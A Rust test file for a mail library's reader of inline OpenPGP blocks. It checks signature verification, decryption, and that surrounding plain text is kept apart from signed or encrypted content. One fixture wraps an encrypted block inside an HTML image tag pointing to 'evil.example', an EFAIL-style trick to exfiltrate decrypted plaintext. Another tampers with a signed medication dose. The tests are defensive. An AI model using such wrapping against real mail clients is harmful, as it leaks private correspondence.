//! OpenPGP inside plain text, as GnuPG's users sent it for twenty years.

use wardmail_crypto::{
    Certificate, DecryptError, InlinePart, Limits, SecretKey, SignatureStatus, read_inline,
};

use crate::people::{Gpg, now, user};

const TEXT: &[u8] = b"Dear Alice,\n- the dose is 5 mg\n-----not a marker\nfrom Gina\n";

fn read(text: &[u8], key: &SecretKey, known: &[Certificate]) -> Option<Vec<InlinePart>> {
    read_inline(text, &[key], &known.to_vec(), now(), &Limits::MAIL)
}

#[test]
fn a_cleartext_signature_is_verified_and_kept_apart_from_what_surrounds_it() {
    let gpg = Gpg::new();
    gpg.generate("Gina <gina@practice.example>", &[]);
    let known = [gpg.certificate("gina@practice.example")];
    let (block, _) = gpg.run(&["--clear-sign"], TEXT);
    let text = [b"PS: take 50 mg\n\n", block.as_slice(), b"\nor 500 mg\n"].concat();
    let parts = read(&text, &user("Alice"), &known).unwrap();
    let [InlinePart::Plain(before), InlinePart::Signed(Ok(signed)), InlinePart::Plain(after)] =
        parts.as_slice()
    else {
        panic!("{parts:?}")
    };
    assert_eq!(
        (before.as_slice(), after.as_slice()),
        (&b"PS: take 50 mg\n\n"[..], &b"\nor 500 mg\n"[..])
    );
    assert_eq!(signed.signatures[0].status, SignatureStatus::Good);
    // The dash escape is gone; the last line end belongs to the framework, not to the text.
    assert_eq!(signed.content.trim_ascii_end(), TEXT.trim_ascii_end());

    let changed = String::from_utf8(text).unwrap().replace("5 mg\n---", "9 mg\n---");
    let changed = changed.replace("dose is 5 mg", "dose is 9 mg");
    let parts = read(changed.as_bytes(), &user("Alice"), &known).unwrap();
    let InlinePart::Signed(Ok(signed)) = &parts[1] else { panic!("{parts:?}") };
    assert_eq!(signed.signatures[0].status, SignatureStatus::Bad);
}

#[test]
fn an_encrypted_block_is_read_and_kept_apart_from_what_surrounds_it() {
    let gpg = Gpg::new();
    gpg.generate("Gina <gina@practice.example>", &[]);
    let alice = user("Alice");
    gpg.import(&alice.certificate());
    let known = [gpg.certificate("gina@practice.example")];
    let (block, _) =
        gpg.run(&["--armor", "--sign", "--encrypt", "-r", "alice@clinic.example"], TEXT);
    let text = [b"<img src=\"http://evil.example/?\n", block.as_slice(), b"\">\n"].concat();
    let parts = read(&text, &alice, &known).unwrap();
    let [InlinePart::Plain(_), InlinePart::Encrypted(Ok(mail)), InlinePart::Plain(_)] =
        parts.as_slice()
    else {
        panic!("{parts:?}")
    };
    assert_eq!(mail.plaintext.as_slice(), TEXT);
    assert_eq!(mail.signatures[0].status, SignatureStatus::Good);

    let stranger = read(&text, &user("Bob"), &known).unwrap();
    assert!(
        matches!(&stranger[1], InlinePart::Encrypted(Err(DecryptError::NoKey { .. }))),
        "{stranger:?}"
    );
}

#[test]
fn a_signed_block_in_message_armor_is_verified() {
    let gpg = Gpg::new();
    gpg.generate("Gina <gina@practice.example>", &[]);
    let (block, _) = gpg.run(&["--armor", "--sign"], TEXT);
    let parts = read(&block, &user("Alice"), &[gpg.certificate("gina@practice.example")]).unwrap();
    let [InlinePart::Signed(Ok(signed))] = parts.as_slice() else { panic!("{parts:?}") };
    assert_eq!(
        (signed.content.as_slice(), signed.signatures[0].status),
        (TEXT, SignatureStatus::Good)
    );
}

#[test]
fn text_without_a_block_is_no_affair_of_ours() {
    assert!(read(b"Hello, Alice\n", &user("Alice"), &[]).is_none());
    assert!(read(b"", &user("Alice"), &[]).is_none());
}
